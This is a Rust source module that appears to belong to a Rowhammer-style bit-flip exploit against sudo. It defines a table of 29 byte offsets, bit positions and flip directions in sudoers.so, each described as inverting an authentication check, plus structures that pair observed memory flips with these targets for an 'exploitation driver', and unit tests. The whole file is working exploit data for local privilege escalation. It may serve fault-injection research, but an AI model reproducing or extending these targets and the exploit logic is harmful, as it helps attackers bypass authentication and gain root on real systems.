//! The table of exploitable opcode bytes in the target library.
//!
//! Each entry names one byte of `sudoers.so` whose flip at a specific bit, in
//! a specific direction, turns an authentication check into its complement.
//! The table was derived offline by diffing single-bit mutations of the
//! library against the authentication code paths; it is immutable and
//! process-wide.

use crate::util::PAGE_MASK;
use serde::Serialize;

/// Direction of a bit flip.
#[derive(Clone, Copy, Debug, Serialize, PartialEq, Eq, Hash)]
pub enum FlipDirection {
    /// Bit flips from 0 to 1
    ZeroToOne,
    /// Bit flips from 1 to 0
    OneToZero,
}

/// One exploitable byte of the target library.
#[derive(Clone, Copy, Debug, Serialize, PartialEq, Eq, Hash)]
pub struct OpcodeEntry {
    /// Offset of the byte within the library file
    pub file_offset: usize,
    /// Bit position (0-7) whose flip is exploitable
    pub bit_index: u8,
    /// Direction the flip must take
    pub direction: FlipDirection,
}

impl OpcodeEntry {
    const fn new(file_offset: usize, bit_index: u8, direction: FlipDirection) -> Self {
        OpcodeEntry {
            file_offset,
            bit_index,
            direction,
        }
    }

    /// Offset of the byte within its 4KB page.
    pub fn page_offset(&self) -> usize {
        self.file_offset & PAGE_MASK
    }

    /// Single-bit mask of the exploitable bit.
    pub fn flip_mask(&self) -> u8 {
        1 << self.bit_index
    }
}

use FlipDirection::{OneToZero, ZeroToOne};

/// The 29 exploitable flips in the target library.
pub const EXPLOITABLE_OPCODES: [OpcodeEntry; 29] = [
    OpcodeEntry::new(0x8c1c, 4, OneToZero),
    OpcodeEntry::new(0x8c32, 3, OneToZero),
    OpcodeEntry::new(0x8d4e, 0, ZeroToOne),
    OpcodeEntry::new(0x8d4f, 0, OneToZero),
    OpcodeEntry::new(0x8d59, 0, ZeroToOne),
    OpcodeEntry::new(0x8d59, 1, ZeroToOne),
    OpcodeEntry::new(0x8d59, 2, ZeroToOne),
    OpcodeEntry::new(0x8d59, 3, OneToZero),
    OpcodeEntry::new(0x8d59, 6, OneToZero),
    OpcodeEntry::new(0x8d5a, 5, ZeroToOne),
    OpcodeEntry::new(0x8d5d, 7, ZeroToOne),
    OpcodeEntry::new(0x8d5e, 0, ZeroToOne),
    OpcodeEntry::new(0x8d5f, 0, OneToZero),
    OpcodeEntry::new(0x8dbd, 3, ZeroToOne),
    OpcodeEntry::new(0x8dbd, 7, OneToZero),
    OpcodeEntry::new(0x8dbf, 0, OneToZero),
    OpcodeEntry::new(0x8dbf, 3, ZeroToOne),
    OpcodeEntry::new(0x8dc4, 3, OneToZero),
    OpcodeEntry::new(0x8dc5, 1, ZeroToOne),
    OpcodeEntry::new(0x8dc5, 2, ZeroToOne),
    OpcodeEntry::new(0x8dc9, 3, ZeroToOne),
    OpcodeEntry::new(0x8dc9, 4, ZeroToOne),
    OpcodeEntry::new(0x8dca, 7, OneToZero),
    OpcodeEntry::new(0x8dcb, 3, ZeroToOne),
    OpcodeEntry::new(0x8dcf, 0, ZeroToOne),
    OpcodeEntry::new(0x8dcf, 3, ZeroToOne),
    OpcodeEntry::new(0x8dd0, 2, OneToZero),
    OpcodeEntry::new(0x8dd1, 0, OneToZero),
    OpcodeEntry::new(0x8e23, 6, OneToZero),
];

/// A discovered exploitation opportunity.
///
/// Pairs the buffer offset of an observed flip with the opcode entry whose
/// page offset, bit and direction match it. Produced by the scanners,
/// consumed by the exploitation driver; holds no ownership of the buffer.
#[derive(Clone, Copy, Debug, Serialize)]
pub struct Template {
    /// Buffer offset of the byte that flipped
    pub offset: usize,
    /// The opcode entry the flip matches
    pub op: OpcodeEntry,
}

impl Template {
    /// Buffer offset of the page that mirrors the library page containing
    /// the opcode byte.
    pub fn page_base(&self) -> usize {
        self.offset - self.op.page_offset()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_table_shape() {
        assert_eq!(EXPLOITABLE_OPCODES.len(), 29);
        for op in EXPLOITABLE_OPCODES.iter() {
            assert!(op.bit_index < 8);
            assert!(op.page_offset() < 0x1000);
        }
    }

    #[test]
    fn test_page_offset_and_mask() {
        let op = OpcodeEntry::new(0x8dcf, 3, ZeroToOne);
        assert_eq!(op.page_offset(), 0xdcf);
        assert_eq!(op.flip_mask(), 0b0000_1000);
    }

    #[test]
    fn test_template_page_base() {
        let op = OpcodeEntry::new(0x8dcf, 0, ZeroToOne);
        let template = Template {
            offset: 0x22dcf,
            op,
        };
        assert_eq!(template.page_base(), 0x22000);
    }
}
